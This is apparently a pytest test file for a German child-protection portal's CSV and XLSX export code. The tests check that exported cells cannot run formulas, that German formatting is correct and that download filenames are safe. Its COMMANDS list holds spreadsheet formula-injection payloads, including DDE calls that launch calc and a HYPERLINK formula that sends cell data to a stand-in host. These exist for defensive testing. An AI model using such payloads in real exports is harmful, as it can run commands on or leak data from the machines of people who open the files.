"""Tables that leave the portal compute nothing and lead nowhere."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from kinderschutz.lib.tables import (
    CSV,
    MOST_CHARACTERS,
    XLSX,
    Cell,
    as_text,
    csv_table,
    harmless,
    table_response,
    xlsx_table,
)

COMMANDS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://boese.example/?x="&A1;"klick")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    '"=1+1',
    "%0A=1+1",
    "|calc",
]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name).decode() for name in book.namelist()}


@pytest.mark.parametrize("command", COMMANDS, ids=ascii)
def test_csv_has_an_apostrophe_before_what_begins_like_a_formula(command: str) -> None:
    (_, (name, place)) = read_csv(csv_table(["Name", "Ort"], [[command, "Alfter"]]))

    assert name.startswith("'")
    assert place == "Alfter"


@pytest.mark.parametrize("command", COMMANDS, ids=ascii)
def test_xlsx_holds_text_only(command: str) -> None:
    files = parts(xlsx_table("Liste", ["Name"], [[command]]))

    sheet = files["xl/worksheets/sheet1.xml"]
    assert set(re.findall(r'<c [^>]*?t="(\w+)"', sheet)) == {"s"}
    assert len(re.findall(r"<c ", sheet)) == len(re.findall(r'<c [^>]*?t="s"', sheet)) == 2
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert not [name for name in files if name.startswith("xl/worksheets/_rels")]


@pytest.mark.parametrize("plain", ["Anna-Lena", "5 - 7 Jahre", "a@b.example", "O'Hara", "„=“"])
def test_usual_text_stays_as_it_is(plain: str) -> None:
    assert harmless(plain) == plain


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (None, ""),
        (True, "ja"),
        (-3, "-3"),
        (Decimal("1.50"), "1,50"),
        (date(2026, 3, 5), "05.03.2026"),
        (datetime(2026, 3, 5, 13, 30, tzinfo=UTC), "05.03.2026 14:30"),
        ("zwei\nZeilen", "zwei\nZeilen"),
        ("a\x00\x1bb\u202ec", "abc"),
    ],
)
def test_cells_are_written_as_germans_read_them(cell: Cell, text: str) -> None:
    assert harmless(cell) == as_text(cell) == text


def test_a_german_spreadsheet_finds_umlauts_and_columns_in_csv() -> None:
    content = csv_table(["Fähigkeit", "Ort"], [["Müller; Größe", 'a"b']])

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == '"Fähigkeit";"Ort"\r\n"Müller; Größe";"a""b"\r\n'


def test_text_that_no_cell_holds_is_cut_visibly() -> None:
    cut = as_text("x" * 40_000)

    assert len(cut) == MOST_CHARACTERS
    assert cut.endswith("x…")


def test_a_row_that_does_not_fit_the_heading_is_a_fault() -> None:
    with pytest.raises(ValueError, match="longer or shorter"):
        csv_table(["Name"], [["a", "b"]])


def test_a_moment_without_a_time_zone_is_a_fault() -> None:
    with pytest.raises(ValueError, match="time zone"):
        as_text(datetime(2026, 3, 5, 13, 30))  # noqa: DTZ001


def test_the_same_table_is_the_same_file() -> None:
    assert xlsx_table("Liste", ["A"], [["b"]]) == xlsx_table("Liste", ["A"], [["b"]])


@pytest.mark.parametrize("kind", [CSV, XLSX])
def test_a_table_is_a_file_to_keep(kind: str) -> None:
    response = table_response(kind, 'Zugänge "März"/\r\nX', ["A"], [["b"]])

    assert response["Content-Disposition"] == f'attachment; filename="zugaenge--maerz----x.{kind}"'
